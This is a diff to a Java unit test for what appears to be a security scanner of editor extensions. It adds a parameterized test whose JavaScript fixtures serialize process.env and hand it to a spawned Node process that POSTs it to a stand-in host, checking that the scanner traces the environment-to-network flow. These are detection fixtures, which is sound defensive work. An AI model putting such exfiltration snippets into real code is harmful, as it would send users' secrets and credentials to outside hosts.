@@ -5,6 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.vsxray.scanner.model.Trigger;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Data that crosses between the extension and the workers and processes that it starts. */
 class WorkerMessagesTest {
@@ -32,6 +34,24 @@ class WorkerMessagesTest {
 
         assertThat(analysis.destinations("editor-document", "network-send")).contains("https://types.example/infer");
         assertThat(analysis.triggers("editor-document", "network-send")).contains(Trigger.DOCUMENT_EVENT);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "cp.spawn(process.execPath, ['-e', CODE]).stdin.end(all)",
+                "const node = cp.spawn('node', ['-e', CODE]); node.stdin.write(all); node.stdin.end()",
+                "cp.execFileSync('node', ['-e', CODE], { input: all })",
+            })
+    void what_a_text_that_is_run_gathers_from_its_input_is_what_it_is_given(String start) {
+        Analysis analysis = of(
+                "const all = JSON.stringify(process.env), CODE = `let text = '';"
+                        + " process.stdin.on('data', part => text += part).on('end', () =>"
+                        + " require('https').request('https://types.example/infer', { method: 'POST' }).end(text));`;"
+                        + start + ";",
+                "");
+
+        assertThat(analysis.destinations("environment", "network-send")).contains("https://types.example/infer");
     }
 
     @Test
